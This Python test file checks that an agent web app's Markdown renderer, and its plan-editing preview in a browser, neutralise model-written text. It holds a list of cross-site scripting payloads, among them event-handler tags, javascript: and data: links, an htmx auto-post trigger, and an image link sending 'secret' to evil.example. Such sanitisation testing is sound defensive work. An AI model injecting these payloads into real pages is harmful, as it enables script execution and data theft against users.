"""Text of a model is shown and does nothing."""

from __future__ import annotations

import re

import httpx2
import pytest
from playwright.sync_api import Browser, expect

from loopagent.web.markdown import Reading, render
from tests.web.browser import watched


HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    '<button hx-post="/requests/x" hx-trigger="load">x</button>',
    "![x](https://evil.example/?q=secret)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "<a href=javascript:alert(1)>x</a>",
    "<svg/onload=alert(1)>",
    '[x](https://a.example "\\" onmouseover=alert(1) \\"")',
    "<style>*{display:none}</style>",
    "<iframe src=https://evil.example></iframe>",
    "`<b>`<form action=https://evil.example><input name=a>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_but_harmless_tags_comes_out(text: str) -> None:
    html = render(text).lower()
    for bad in ("<img", "<script", "<button", "<svg", "<style", "<iframe", "<form", "<input"):
        assert bad not in html
    tags = re.findall(r"<[^>]*>", html)
    for bad in ("javascript:", "data:", "vbscript:", " on", " hx-", "src="):
        assert not any(bad in one for one in tags)


def test_what_people_write_is_shown() -> None:
    html = render(
        "# Plan\n\n1. **Mail** [Ann](https://mail.example/a)\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    assert "<h3>Plan</h3>" in html
    assert "<strong>Mail</strong>" in html
    assert (
        'rel="noopener noreferrer nofollow">Ann</a><span class="host"> (mail.example)</span>'
        in html
    )
    assert "<td>2</td>" in html
    assert "<pre " in render("x" * 300_001)
    assert "[image: a cat]" in render("![a cat](https://evil.example/cat.png)")


@pytest.mark.parametrize("sign", ["[", "![", "*a ", "|-|-\n", "[a]["])
def test_what_would_take_long_to_read_is_shown_as_it_is(sign: str) -> None:
    assert render(sign * 100_000).startswith("<pre ")


def test_what_texts_of_one_page_take_adds_up() -> None:
    reading = Reading()
    assert render("**a** " * 20_000, reading).startswith("<pre ")
    assert [render("**a** " * 3_000, reading)[:4] for _ in range(4)] == ["<p><"] * 2 + ["<pre"] * 2
    assert render("**a**", reading).startswith("<p><strong>")


def test_a_hostile_plan_stays_text_in_the_page(
    browser: Browser, client: httpx2.Client, site: str
) -> None:
    body = {"agent": "planner", "message": "Go."}
    run = client.post("/runs", params={"wait": 20}, json=body).json()
    answer = f"/requests/{run['requests'][0]['requestId']}/answer"
    client.post(answer, json={"decision": "approve"})
    run = client.get(f"/runs/{run['id']}", params={"wait": 20}).json()
    with watched(browser, site) as seen:
        page = seen.page
        page.goto(f"/requests/{run['requests'][0]['requestId']}")
        page.get_by_text("Edit the plan").click()
        page.get_by_label("The whole plan, Markdown").fill("\n\n".join(HOSTILE))
        expect(page.locator("#preview")).to_contain_text("onerror=alert(1)")
        for tag in ("img", "script", "svg", "iframe", "form", "button", "style"):
            expect(page.locator(f"#preview {tag}")).to_have_count(0)
        assert page.evaluate("document.querySelectorAll('#preview [hx-post]').length") == 0
        seen.check()
